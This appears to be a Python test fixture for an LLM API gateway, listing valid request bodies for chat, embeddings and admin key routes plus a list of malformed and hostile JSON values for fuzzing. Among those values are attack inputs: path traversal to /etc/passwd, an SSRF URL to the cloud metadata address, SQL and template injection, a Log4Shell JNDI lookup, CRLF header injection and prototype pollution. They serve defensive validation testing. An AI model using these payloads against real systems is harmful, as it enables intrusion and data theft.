"""Good bodies, one or more for each POST route, and values that are good nowhere."""

from __future__ import annotations

import base64
import json

# Stands in what a model is to read, and must be in no line of the log.
SAID = "canary-said-4f1d93"
IMAGE = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n" + bytes(60)).decode()
_FUNCTION = {"name": "find_act", "parameters": {"type": "object", "properties": {"year": {"type": "integer"}}}}
_CALL = {"id": "call_1", "type": "function", "function": {"name": "find_act", "arguments": '{"year": 1995}'}}

CHAT: tuple[dict[str, object], ...] = (
    {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": f"What is consideration? {SAID}"}]},
    {
        "model": "gpt-4o-mini",
        "messages": [
            {"role": "system", "content": "You are brief."},
            {"role": "user", "content": [{"type": "text", "text": f"Say hello. {SAID}"}], "name": "ann"},
        ],
        "max_tokens": 20,
        "temperature": 0.2,
        "top_p": 0.9,
        "stream": True,
        "stream_options": {"include_usage": True},
        "user": "ann",
        "stop": ["\n\n"],
        "seed": 7,
        "logit_bias": {"50256": -100},
    },
    {
        "model": "gpt-4o",
        "messages": [
            {"role": "user", "content": [
                {"type": "text", "text": f"What is this? {SAID}"},
                {"type": "image_url", "image_url": {"url": IMAGE, "detail": "low"}},
            ]},
            {"role": "assistant", "content": None, "tool_calls": [_CALL]},
            {"role": "tool", "tool_call_id": "call_1", "content": SAID},
        ],
        "tools": [{"type": "function", "function": _FUNCTION}],
        "tool_choice": "auto",
        "max_completion_tokens": 30,
        "response_format": {"type": "json_object"},
        "n": 2,
    },
)  # fmt: skip
RESPONSES: tuple[dict[str, object], ...] = (
    {"model": "gpt-4o-mini", "input": f"What is consideration? {SAID}"},
    {
        "model": "gpt-4o-mini",
        "instructions": "Be brief.",
        "input": [
            {"role": "user", "content": [
                {"type": "input_text", "text": SAID},
                {"type": "input_image", "image_url": IMAGE, "detail": "low"},
            ]},
            {"type": "function_call", "call_id": "call_1", "name": "find_act", "arguments": "{}"},
            {"type": "function_call_output", "call_id": "call_1", "output": SAID},
        ],
        "max_output_tokens": 30,
        "stream": True,
        "tools": [{"type": "function", "name": "find_act", "parameters": {"type": "object"}}],
        "reasoning": {"effort": "low"},
        "user": "ann",
    },
)  # fmt: skip
EMBEDDINGS: tuple[dict[str, object], ...] = (
    {"model": "text-embedding-3-small", "input": f"Notice must be given. {SAID}"},
    {"model": "text-embedding-3-small", "input": [SAID, "b"], "encoding_format": "base64", "dimensions": 64},
    {"model": "text-embedding-3-small", "input": [[1, 2, 3], [4]], "user": "ann"},
)
HARDENED: tuple[dict[str, object], ...] = (
    {"message": f"What is consideration? {SAID}"},
    {
        "message": SAID,
        "max_tokens": 20,
        "temperature": 0.1,
        "top_p": 0.5,
        "enable_web_search": True,
        "user_id": "ann",
        "session_id": "s-1",
    },
)
_LIMITS = {"requests_per_minute": 5, "tokens_per_minute": 100, "usd_day": "2.50", "usd_month": "10"}

# By the path as the tables that serve have it. Parameters are filled in by whoever sends.
GOOD: dict[str, tuple[dict[str, object], ...]] = {
    "/v1/chat/completions": CHAT,
    "/v1/responses": RESPONSES,
    "/v1/embeddings": EMBEDDINGS,
    "/api/chat/hardened": HARDENED,
    "/api/admin/circuit-breaker/reset": ({"endpoint": "chat_completions"}, {"upstream": "openai", "model": "gpt-4o"}),
    "/api/admin/keys": (
        {"name": "made", "tenant": "made", "tier": "FREE", "scopes": ["inference"], "limits": _LIMITS},
        {"name": "made", "expires_at": 1_900_000_000},
    ),
    "/api/admin/keys/{key_id}/revoke": ({},),
    "/api/admin/keys/{key_id}/rotate": ({"overlap_seconds": 60},),
    "/api/admin/keys/{key_id}/limits": ({"limits": _LIMITS, "expires_at": 1_900_000_000},),
    "/api/admin/tenants/{name}": ({"limits": _LIMITS, "time_zone": "Australia/Sydney"},),
    "/api/admin/upstream-keys": ({"key": "sk-made-0123456789", "upstream": "openai", "overlap_days": 2},),
    "/api/admin/upstream-keys/{key_id}/retire": ({},),
}

_DEEP = b'{"a":' * 3_000 + b"1" + b"}" * 3_000
# As JSON text, some of it none: what takes the place of a value.
WICKED: tuple[bytes, ...] = (
    b"null", b"true", b"false", b"0", b"-1", b"1", b"-0.0", b"1.5", b"1e308", b"1e309", b"-1e999", b"1e-999",
    b"9223372036854775807", b"9223372036854775808", b"-9223372036854775809", b"18446744073709551616",
    b"1" + b"0" * 400, b"9" * 5_000, b"0." + b"1" * 5_000, b"1e5000000", b"NaN", b"Infinity", b"-Infinity", b"nan",
    b"0x10", b"01", b"+1", b"1.", b".5", b"'a'", b"undefined", b"", b'""', b'" "', b'"a"', b'"\\u0000"', b'"\\ud800"',
    b'"\\udc00\\ud800"', b'"\\ud83d\\ude00"', b'"\xff"', b'"\xc0\xaf"', b'"\xed\xa0\x80"', b'"\xf4\x90\x80\x80"',
    b'"\\x41"', b'"a\nb"', b'"\\r\\nset-cookie: a=b"', b'"\\u001b[31mred"', b'"\\u009b31m\\u202e\\u2028"', b'"\x00"',
    b'"' + b"x" * 600 + b'"', b'"' + b"x" * 20_000 + b'"', b'"' + b"\\u0000" * 600 + b'"', b"[]", b"{}", b"[null]",
    b"[[]]", b"[{}]", b'{"a":1,"a":2}', b'{"a":1,"\\u0061":2}', b'{"type":5}', b'[{"type":"nothing"}]',
    b"[" * 70 + b"]" * 70, b"[" * 5_000 + b"]" * 5_000, _DEEP, b'{"__proto__":{"a":1}}', b'{"$ref":"#/a"}',
    b'"../../../../etc/passwd"', b'"http://169.254.169.254/latest/meta-data"', b'"file:///etc/passwd"',
    b"\"' OR '1'='1\"", b'"{{7*7}}"', b'"${jndi:ldap://example.com/a}"', b'"%s%s%s%n"', b'"=1+1"', b'"sk-auslex-dev-x"',
    b'{"url":"http://[::1]:22/"}', b'{"url":"data:;base64,AA"}', b"[" + b"1," * 9_999 + b"1]", b'"\\ufeff"',
    b'"2026-02-30"', b'"1e400"', b'"NaN"', b'"Infinity"', b'"-1"', b'"0.000000000000000000000000000001"', b'"1_000"',
    b'"\xd9\xa1\xd9\xa2"', b'"+5"', b'" 5 "', b'"Etc/../../../etc/passwd"', b'"/etc/localtime"', b'"US"', b'"\\u0130"',
)  # fmt: skip


def as_json(body: object) -> bytes:
    """As a client would write it."""
    return json.dumps(body).encode()
